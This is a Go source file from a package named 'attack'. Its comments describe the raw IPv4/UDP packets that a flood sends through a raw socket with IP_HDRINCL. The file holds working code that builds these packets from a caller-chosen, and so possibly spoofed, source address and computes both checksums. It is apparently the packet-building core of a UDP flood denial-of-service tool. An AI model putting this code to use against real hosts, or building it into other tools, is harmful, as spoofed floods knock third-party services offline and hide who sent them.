package attack

import (
	"encoding/binary"
	"errors"
	"net/netip"
)

// An IPv4 packet as the flood writes it to a raw socket with IP_HDRINCL:
//
//	 0      1      2      3
//	+------+------+------+------+
//	|ver/ihl| tos |  total len  |  ipv4HeaderLen = 20 bytes, no options
//	|     id      | flags/frag  |
//	| ttl  |proto |  checksum   |
//	|        source address     |
//	|     destination address   |
//	+------+------+------+------+
//	| src port    | dst port    |  udpHeaderLen = 8 bytes
//	| length      | checksum    |  checksum over the pseudo-header (RFC 768)
//	+------+------+------+------+
//	| payload ...
const (
	ipv4HeaderLen = 20
	udpHeaderLen  = 8
	headersLen    = ipv4HeaderLen + udpHeaderLen
	maxUDPPayload = 1<<16 - 1 - headersLen
	protoUDP      = 17
	defaultTTL    = 64
	dontFragment  = 0x4000
)

var errPayloadSize = errors.New("attack: UDP payload too large for one IPv4 packet")

// appendIPv4UDP appends an IPv4 header, a UDP header and payload, from src
// to dst, with both checksums computed.
func appendIPv4UDP(b []byte, src, dst netip.AddrPort, id uint16, payload []byte) ([]byte, error) {
	if len(payload) > maxUDPPayload {
		return b, errPayloadSize
	}
	start := len(b)
	total := headersLen + len(payload)
	s4, d4 := src.Addr().As4(), dst.Addr().As4()
	b = append(b, 0x45, 0)
	b = binary.BigEndian.AppendUint16(b, uint16(total))
	b = binary.BigEndian.AppendUint16(b, id)
	b = binary.BigEndian.AppendUint16(b, dontFragment)
	b = append(b, defaultTTL, protoUDP, 0, 0)
	b = append(b, s4[:]...)
	b = append(b, d4[:]...)
	ip := b[start:]
	binary.BigEndian.PutUint16(ip[10:], checksum(0, ip[:ipv4HeaderLen]))

	udpLen := udpHeaderLen + len(payload)
	b = binary.BigEndian.AppendUint16(b, src.Port())
	b = binary.BigEndian.AppendUint16(b, dst.Port())
	b = binary.BigEndian.AppendUint16(b, uint16(udpLen))
	b = append(b, 0, 0)
	b = append(b, payload...)
	udp := b[start+ipv4HeaderLen:]
	// Pseudo-header: source, destination, zero, protocol, UDP length.
	var pseudo [12]byte
	copy(pseudo[0:4], s4[:])
	copy(pseudo[4:8], d4[:])
	pseudo[9] = protoUDP
	binary.BigEndian.PutUint16(pseudo[10:], uint16(udpLen))
	sum := checksum(sumWords(0, pseudo[:]), udp)
	if sum == 0 {
		sum = 0xffff // zero means "no checksum" in UDP over IPv4
	}
	binary.BigEndian.PutUint16(udp[6:], sum)
	return b, nil
}

// sumWords adds b as big-endian 16-bit words (odd length padded with a zero
// byte) to the running one's-complement sum.
func sumWords(sum uint32, b []byte) uint32 {
	for len(b) >= 2 {
		sum += uint32(b[0])<<8 | uint32(b[1])
		b = b[2:]
	}
	if len(b) == 1 {
		sum += uint32(b[0]) << 8
	}
	return sum
}

// checksum is the Internet checksum (RFC 1071) of b, continuing sum.
func checksum(sum uint32, b []byte) uint16 {
	sum = sumWords(sum, b)
	for sum>>16 != 0 {
		sum = sum&0xffff + sum>>16
	}
	return ^uint16(sum)
}
